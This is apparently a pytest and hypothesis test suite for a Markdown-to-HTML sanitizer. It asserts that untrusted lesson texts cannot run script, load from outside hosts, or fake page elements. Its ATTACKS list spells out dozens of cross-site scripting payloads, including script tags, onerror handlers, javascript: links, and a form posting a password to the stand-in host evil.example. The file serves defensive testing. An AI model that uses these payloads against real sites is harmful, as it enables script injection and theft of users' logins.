"""Markdown from strangers: nothing in a text may act, load or pretend, and what was taken out is told."""

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from tests.content.texts import Elements, html_of, rendered

FORBIDDEN = {
    "script", "style", "iframe", "object", "embed", "applet", "base", "meta", "link", "svg", "math", "form", "input",
    "button", "select", "textarea", "video", "audio", "template", "noscript", "frame", "frameset", "canvas",
}  # fmt: skip
ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "text <script>alert(1)",
    '<img src=x onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    '<img src="/content/a.webp" srcset="https://evil.example/x.png 2x">',
    '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    "![x](data:image/png;base64,AAAA)",
    "![x](https://evil.example/track.png)",
    "![x](//evil.example/track.png)",
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" &#106;avascript:alert(1)">x</a>',
    '<a href="JaVa\tScRiPt:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](vbscript:x)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<iframe src="https://evil.example"></iframe>',
    "<style>body{display:none}</style>",
    "<style>@import url(//evil.example)",
    '<p style="position:fixed;top:0">x</p>',
    '<div class="site-header" id="main">x</div>',
    "<svg onload=alert(1)><circle/></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(4)</script>'>",
    "<object data=x></object><embed src=x>",
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    '<link rel="stylesheet" href="//evil.example/x.css">',
    '<form action="//evil.example"><input name=password><button>OK</button></form>',
    "<details open ontoggle=alert(1)>x</details>",
    "<b onmouseover=alert(1)>x",
    "<div><p>unclosed <b><i onclick=alert(1)",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!-- --!><script>alert(1)</script> -->",
    "<!--><script>alert(1)</script>-->",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<?php echo 1 ?>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<video src=x onerror=alert(1)>",
    "> <script>alert(1)</script>",
    "| a |\n|--|\n| <img src=x onerror=alert(1)> |",
    "`code` <b/onclick=alert(1)>x</b>",
    '<a href="x" onclick="alert(1)">x</a>',
    "<div title='<script>alert(1)</script>'>x</div>",
    '<img alt="<script>" src="&quot;><script>alert(1)</script>">',
]  # fmt: skip


def assert_harmless(html: str) -> None:
    """Fail where anything in the HTML acts, or loads from elsewhere."""
    for tag, attributes in Elements(html).found:
        assert tag not in FORBIDDEN, html
        for name, value in attributes.items():
            assert not name.startswith("on"), html
            assert name not in ("style", "formaction", "background", "ping", "srcdoc", "target"), html
            if name in ("src", "srcset"):
                assert tag == "img", html
                assert all(part.split()[0].startswith("/content/") for part in value.split(",")), html
            if name == "href":
                scheme = value.partition(":")[0] if ":" in value.split("/")[0].split("#")[0].split("?")[0] else ""
                assert scheme.lower() in ("", "http", "https", "mailto", "tel"), html
    assert "<script" not in html.lower()
    assert "<!--" not in html


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize(
    "around", ["{}", "words {} words", "<div>\n{}\n</div>", "- item\n\n  {}", "## {}", "[{}](x.md)"]
)
def test_nothing_in_a_text_acts(attack: str, around: str) -> None:
    assert_harmless(html_of(f"# Title\n\n{around.format(attack)}\n"))


PIECES = st.sampled_from(
    [*ATTACKS, "<", ">", "</", "<script", "script>", "<img ", "src=", "onerror=", '"', "'", "`", "<!--", "-->",
     "\n", "\n\n", "javascript:", "![", "](", ")", "[", "<div", "<p>", "</p>", "> ", "|", "\t", "\0", "\u2028",
     "&lt;", "&#60;", "\\", "文"]
)  # fmt: skip


@settings(max_examples=400, deadline=None)
@given(text=st.lists(PIECES | st.text(max_size=8), max_size=14).map("".join))
@example(text="<a href='\"'><script>")
@example(text="![](/content/x.webp,//evil.example/x)")
def test_nothing_acts_in_any_text_at_all(text: str) -> None:
    assert_harmless(html_of(text))


@settings(max_examples=200, deadline=None)
@given(text=st.text())
def test_every_text_can_be_rendered(text: str) -> None:
    assert_harmless(html_of(text))


@pytest.mark.parametrize("tag", ["script", "style", "object", "embed", "base", "meta", "link", "svg"])
def test_what_acts_stops_the_import_by_file_and_line(tag: str) -> None:
    _html, report, _resolver = rendered(f"# T\n\none\n\n<div>\n<{tag} x=y></{tag}>\n</div>\n")
    assert [str(note) for note in report.errors] == [f"lesson.md:6: <{tag}> is not allowed in a text"]


@pytest.mark.parametrize("tag", ["iframe", "video", "audio", "form", "input", "button"])
def test_what_asks_or_plays_is_left_out_and_told_by_file_and_line(tag: str) -> None:
    html, report, _resolver = rendered(f"# T\n\none\ntwo <{tag} src=x> three\n")
    assert "three" in html
    assert report.errors == []
    assert [str(note) for note in report.warnings] == [f"lesson.md:4: <{tag}> was left out"]


def test_links_do_not_hand_on_who_comes() -> None:
    html = html_of("# T\n\n[x](https://example.org/)")
    assert 'rel="noopener nofollow"' in html


@pytest.mark.parametrize(
    "piece", ["<a ", "<div ", "<script ", "<script>", "![a](", "[", "> ", "*a _b ", "<!--", "`", "<a '\""]
)
def test_a_long_text_of_nonsense_is_read_to_its_end(piece: str) -> None:
    """Takes for ever where a pattern looks at the whole text again for each piece."""
    assert_harmless(html_of("# T\n\n<div>" + piece * 3_000 + "\n\n" + piece * 3_000))
